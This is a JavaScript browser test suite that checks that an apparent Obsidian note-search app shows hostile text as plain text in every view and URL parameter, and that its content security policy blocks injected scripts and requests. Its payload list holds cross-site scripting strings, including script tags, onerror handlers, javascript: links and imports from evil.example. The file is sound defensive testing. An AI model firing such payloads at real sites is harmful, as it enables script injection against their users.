// Text of notes is never markup or code: hostile strings in every place that a view shows, and in
// every parameter of an address. Nothing may run, and nothing may be requested from elsewhere.
import assert from "node:assert/strict";
import { existsSync, readFileSync } from "node:fs";
import path from "node:path";
import { after, before, test } from "node:test";

import { launch, Visit } from "./browser.mjs";
import { REPOSITORY, Stage, TEXT_ONLY, writeNote } from "./stage.mjs";

// A few of each kind, for a clone without the shared test data.
const OWN = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "\"><script src=https://evil.example/x.js></script>",
  "javascript:alert(1)",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>click</a>",
  "{{constructor.constructor('alert(1)')()}}",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<form action=https://evil.example><button autofocus onfocus=alert(1)>",
  "<link rel=prefetch href=https://evil.example/x>",
  "' onmouseover='alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "[x](javascript:alert(1)) ![x](https://evil.example/x.png)",
];
const SHARED = process.env.RAGD_SHARED ?? path.join(REPOSITORY, "..", "shared");
const CORPUS = path.join(SHARED, "data", "security", "xss.jsonl");
const FILE_NAME_CHARACTERS = 100;

function payloads() {
  if (!existsSync(CORPUS)) return OWN;
  const lines = readFileSync(CORPUS, "utf8").split("\n").filter(Boolean);
  return [...OWN, ...lines.map((line) => JSON.parse(line).text)];
}

const texts = payloads();
const word = (at) => `mark${at}zq`;
const fileName = (text) => text.replace(/[/\\\0\n\r\t\f]/g, "∕").slice(0, FILE_NAME_CHARACTERS).replace(/^\.+|[. ]+$/g, "");
let browser, stage, visit, page;

// Each text as the name of a note and of a folder, as title, tag, property, heading and body.
async function fill(vault) {
  for (const [at, text] of texts.entries()) {
    const quoted = JSON.stringify(text);
    const front = `---\ntitle: ${quoted}\ntags: [${quoted}, hostile]\nstatus: ${quoted}\n---\n`;
    const body = `# ${word(at)}\n\n${text}\n\n## ${text.replace(/[\n\r]/g, " ")}\n\n\`${text}\`\n`;
    const name = fileName(text) || `Empty ${at}`;
    await writeNote(vault, `${at % 10 ? "Hostile" : name}/${at} ${name}.md`, front + body);
  }
}

before(async () => {
  stage = await Stage.begin(fill, { embedding: TEXT_ONLY, security: { code_blocks: "keep" } });
  browser = await launch();
  const { data } = await stage.ask("GET", "/v1/coverage?folder=@vault&notes=1000&depth=0");
  assert.equal(data.folder.notes > texts.length * 0.9, true, `${data.folder.notes} of ${texts.length} notes`);
  const recent = await stage.ask("GET", "/v1/notes/recent?max=1");
  for (const text of texts) {
    const source = recent.data.notes[0].path;
    await stage.ask("POST", "/v1/tools/obsidian_rag_memory_store", { key: text.slice(0, 80), value: text, source });
  }
  visit = await Visit.begin(browser, stage);
  page = visit.page;
});

after(async () => {
  await browser?.close();
  await stage?.end();
});

// To another view without loading the page again.
async function show(target) {
  await page.evaluate((address) => {
    history.pushState(null, "", address);
    dispatchEvent(new PopStateEvent("popstate"));
  }, target);
}

// Only elements that the page makes itself, none with a listener or an address of its own.
async function check(where) {
  const found = await page.evaluate(() => {
    const foreign = "script, iframe, object, embed, img, video, audio, style, link, meta, base, math, form[action], [srcdoc], [src], [style*=url]";
    const odd = [...document.body.querySelectorAll(foreign)].map((one) => one.outerHTML.slice(0, 200));
    for (const one of document.body.querySelectorAll("*")) {
      for (const { name, value } of one.attributes) {
        if (name.startsWith("on")) odd.push(`${name}=${value}`);
        if ((name === "href" || name === "xlink:href") && !/^\/(?!\/)|^obsidian:\/\/open\?/.test(value)) odd.push(`${name}=${value}`);
      }
    }
    return odd;
  });
  assert.deepEqual(found, [], where);
  assert.deepEqual(visit.wrong.splice(0), [], where);
}

test("the corpus is complete where it is available", () => {
  assert.ok(texts.length >= (existsSync(CORPUS) ? 250 : OWN.length));
});

test("search shows every hostile note as text", async () => {
  await visit.open("/search");
  for (const at of texts.keys()) {
    const { data } = await stage.search(word(at), { max_results: 1 });
    assert.ok(data.results[0]?.chunk_text.includes(word(at)), `not indexed: ${texts[at]}`);
    await page.fill("#question", word(at));
    await page.locator("article", { hasText: word(at) }).first().waitFor();
    if (at % 25 === 0) {
      await visit.unfold();
      await page.locator("article .around :is(.lines, .notice, .veil)").first().waitFor();
    }
    await check(`search for ${texts[at]}`);
  }
  await visit.shot("hostile-search");
});

test("the text arrives unchanged", async () => {
  await visit.open(`/search?q=${word(0)}`);
  const first = page.locator("article", { hasText: word(0) }).first();
  await first.locator(".around summary").click();
  await first.locator(".lines").waitFor();
  assert.ok((await first.locator(".lines").innerText()).includes(texts[0]));
});

test("hostile questions, filters and addresses are text, too", async () => {
  for (const text of texts) {
    const value = encodeURIComponent(text);
    await show(`/search?q=${value}&tag=${value}&folder=${value}&prop=${value}&from=${value}&collection=${value}`);
    await page.locator(".chip.set").first().waitFor();
    await check(`as a question: ${text}`);
  }
  for (const text of OWN) {
    const value = encodeURIComponent(text);
    for (const target of [`/note?path=${value}&from=${value}`, `/coverage?folder=${value}`, `/facts?type=${value}`, `/health?at=${value}&days=${value}`, `/memories?q=${value}`]) {
      await visit.open(target);
      await check(target);
    }
  }
});

test("why shows hostile questions and notes as text", async () => {
  for (const [at, text] of texts.slice(0, 40).entries()) {
    await show(`/why?q=${word(at)}&note=${encodeURIComponent(text)}`);
    await page.waitForFunction((note) => document.querySelector("#why-note")?.value === note, text.replace(/[\n\r]/g, ""));
    await page.locator(".verdict, .notice.bad").first().waitFor();
    await check(`why ${text}`);
  }
});

test("coverage, facts, health and memories show hostile names as text", async () => {
  await visit.open("/coverage");
  await page.locator(".treemap").waitFor();
  await check("/coverage");
  await visit.shot("hostile-coverage");
  await visit.open("/coverage?folder=Hostile");
  await page.getByRole("heading", { name: "Notes in this folder" }).waitFor();
  await check("/coverage?folder=Hostile");
  for (const target of ["/facts", "/health", "/memories"]) {
    await visit.open(target);
    await page.locator(".fact, svg.timeline, .memory-card").first().waitFor();
    await visit.unfold();
    await check(target);
  }
  await page.evaluate(() => document.querySelectorAll(".veil button").forEach((one) => one.click()));
  await check("memories, shown");
});

test("the policy stops scripts and requests that are in the page all the same", async () => {
  const other = await Visit.begin(browser, stage);
  const refused = await other.page.evaluate(() => {
    const made = document.createElement("img");
    document.body.append(made);
    made.setAttribute("src", "https://evil.example/x.png");
    const tries = {
      listener: () => made.setAttribute("onerror", "alert(1)"),
      markup: () => (document.body.innerHTML = "<img src=x onerror=alert(1)>"),
    };
    return Object.entries(tries).filter(([, attempt]) => {
      try {
        attempt();
        return false;
      } catch {
        return true;
      }
    }).map(([name]) => name);
  });
  assert.deepEqual(refused, ["listener", "markup"]);
  await other.page.waitForEvent("console", { predicate: () => true, timeout: 100 }).catch(() => {});
  assert.ok(other.wrong.some((one) => one.includes("img-src")), String(other.wrong));
  assert.ok(!other.wrong.some((one) => one.includes("dialog")), String(other.wrong));
  await other.end();
});
